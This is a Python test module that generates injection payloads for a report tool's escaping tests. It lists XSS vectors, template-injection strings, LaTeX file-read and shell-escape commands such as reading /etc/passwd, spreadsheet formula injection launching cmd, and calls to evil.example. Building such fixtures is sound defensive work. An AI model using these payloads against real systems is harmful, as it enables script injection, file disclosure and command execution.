"""What somebody might put into a headline, an outlet's name or a study to make a report do something.

Ways into a page, a Markdown file, a table of LaTeX or a spreadsheet, each with the ways of hiding it.
"""

from __future__ import annotations

from itertools import product

from report_cases import COAST, HARBOUR

TOGETHER = 30
"""Payloads in one comparison, each an outlet of its own."""

DEEDS = ("alert(1)", "fetch('https://evil.example')", "document.body.remove()")
TAGS = (
    "<script>{}</script>",
    "<ScRiPt src=https://evil.example/a.js></sCrIpT>{}",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<object data='javascript:{}'>",
    "<a href=javascript:{}>go</a>",
    "<form action=javascript:{}><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=https://evil.example/>{}",
    "<style>@import 'https://evil.example/{}';</style>",
    "<link rel=stylesheet href=https://evil.example/{}>",
    "<math><mtext></p><img src=x onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
)
BREAKS = (
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    '" onmouseover="{}" x="',
    "' onmouseover='{}' x='",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script><![CDATA[",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "\u003cscript\u003e{}\u003c/script\u003e",
    "<scr\u200bipt>{}</scr\u200bipt>",
    "<\0script>{}</script>",
    "\u202e<script>{}</script>\u202c",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "[go](javascript:{})",
    "![x](https://evil.example/{})",
    "[x]: javascript:{}",
    "`</code><script>{}</script>`",
    "| a | <script>{}</script> |",
    "{{{{ 7 * 7 }}}} {{% raw %}} {}",
    "${{{{{}}}}}",
    "{{{{ ''.__class__.__mro__ }}}} {}",
    "\\input{{/etc/passwd}} {}",
    "\\write18{{{}}}",
    "\\end{{tabular}}\\newread\\file {}",
    "$\\href{{javascript:{}}}{{x}}$",
    "=cmd|'/C calc'!A0 {}",
    "+1+cmd|' /C calc'!A0 {}",
    "-1+1|cmd {}",
    "@SUM(1+1)*{}",
    "\t=HYPERLINK(\"https://evil.example\";\"{}\")",
    "\r=1+1 {}",
    "＝1+1 {}",
)  # fmt: skip

PAYLOADS = tuple(form.format(deed) for form, deed in product((*TAGS, *BREAKS), DEEDS))
GROUPS = [PAYLOADS[first : first + TOGETHER] for first in range(0, len(PAYLOADS), TOGETHER)]


def articles_with(payloads: tuple[str, ...], event: str) -> list[dict[str, object]]:
    """An article for each payload, which stands in every field of it."""
    return [
        {
            "id": f"{payload} {number}",
            "outlet": f"{payload}{number}",
            "title": f"{payload} closes the port",
            "text": f"{HARBOUR if number % 2 else COAST} {payload} “It is {payload} for us all,” said "
            f"{payload} Lee. The {payload} report says the harbour may close. {payload}",
            "author": payload,
            "url": payload,
            "event": event,
            "genre": payload,
            "published": f"2026-05-{number % 28 + 1:02}",
            "language": payload,
            payload: payload,
            f"{payload} column": [payload],
        }
        for number, payload in enumerate(payloads)
    ]
